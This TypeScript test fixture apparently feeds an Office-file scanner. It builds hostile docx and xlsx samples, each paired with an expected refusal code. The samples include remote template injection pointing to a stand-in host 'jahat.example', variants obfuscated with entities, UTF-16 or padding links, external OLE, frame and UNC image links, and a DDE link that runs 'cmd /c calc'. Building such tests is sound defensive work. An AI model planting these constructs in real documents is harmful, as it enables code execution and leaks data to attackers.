import { officeBytes } from './evidence-bytes';
import type { HostileFile } from './hostile-files';

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OUTSIDE = 'TargetMode="External"';
const relations = (...links: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships>${links.join('')}</Relationships>`;
const link = (type: string, target: string, mode = OUTSIDE) =>
  `<Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/>`;

const docx = (content: string | Buffer, part = 'word/_rels/document.xml.rels') =>
  officeBytes('docx', [{ name: part, content }]);
const xlsx = (content: string, part: string) => officeBytes('xlsx', [{ name: part, content }]);
const file = (
  what: string,
  name: string,
  bytes: () => Buffer,
  refusal: string | null,
): HostileFile => ({ what: `office: ${what}`, name, bytes, refusal });
const text = (what: string, type: string, target: string, refusal: string | null) =>
  file(what, 'a.docx', () => docx(relations(link(`${TYPES}/${type}`, target))), refusal);

const REMOTE = link(`${TYPES}/attachedTemplate`, 'https://jahat.example/a.dotm');
const SETTINGS = 'word/_rels/settings.xml.rels';

/** Relationships that lead out of a document. */
export const LINKED: HostileFile[] = [
  file(
    'a template from elsewhere',
    'a.docx',
    () => docx(relations(REMOTE), SETTINGS),
    'officeOutside',
  ),
  file(
    'a template from elsewhere that is called by entities',
    'a.docx',
    () => docx(relations(REMOTE.replace('External', 'Ex&#116;ernal')), SETTINGS),
    'officeOutside',
  ),
  file(
    'a template from elsewhere in UTF-16',
    'a.docx',
    () =>
      docx(
        Buffer.from(`\ufeff${relations(REMOTE).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
        SETTINGS,
      ),
    'officeOutside',
  ),
  file(
    'a template from elsewhere in an encoding nobody writes',
    'a.docx',
    () => docx(relations(REMOTE).replace('UTF-8', 'UTF-7'), SETTINGS),
    'officeEncoding',
  ),
  file(
    'a template from elsewhere behind ten thousand links',
    'a.docx',
    () => {
      const links = Array.from({ length: 10_000 }, () =>
        link(`${TYPES}/hyperlink`, 'https://a.example'),
      );
      return docx(relations(...links, REMOTE), SETTINGS);
    },
    'officeOutside',
  ),
  text('an object from elsewhere', 'oleObject', 'file://jahat.example/a.doc', 'officeOutside'),
  text('a frame from elsewhere', 'frame', 'https://jahat.example/a.htm', 'officeOutside'),
  text('a picture from elsewhere', 'image', '\\\\jahat.example\\a.png', 'officeOutside'),
  text('a text from elsewhere', 'subDocument', 'https://jahat.example/a.docx', 'officeOutside'),
  file(
    'a link out without a kind',
    'a.docx',
    () => docx(relations(`<Relationship Target="https://jahat.example" ${OUTSIDE}/>`)),
    'officeOutside',
  ),
  file(
    'a template from elsewhere in an embedded text',
    'a.xlsx',
    () =>
      officeBytes('xlsx', [
        { name: 'xl/embeddings/a.docx', content: docx(relations(REMOTE), SETTINGS) },
      ]),
    'officeOutside',
  ),
  file(
    'a sheet that asks another program',
    'a.xlsx',
    () =>
      xlsx(
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        'xl/externalLinks/externalLink1.xml',
      ),
    'officeOutside',
  ),
  text('a link to a page', 'hyperlink', 'https://lpse.example/a', null),
  file(
    'a template of its own',
    'a.docx',
    () => docx(relations(link(`${TYPES}/attachedTemplate`, 'a.dotx', '')), SETTINGS),
    null,
  ),
  file(
    'a sheet that takes values from another workbook',
    'a.xlsx',
    () =>
      xlsx(
        relations(link(`${TYPES}/externalLinkPath`, 'file:///D:/rekap.xlsx')),
        'xl/externalLinks/_rels/externalLink1.xml.rels',
      ),
    null,
  ),
];
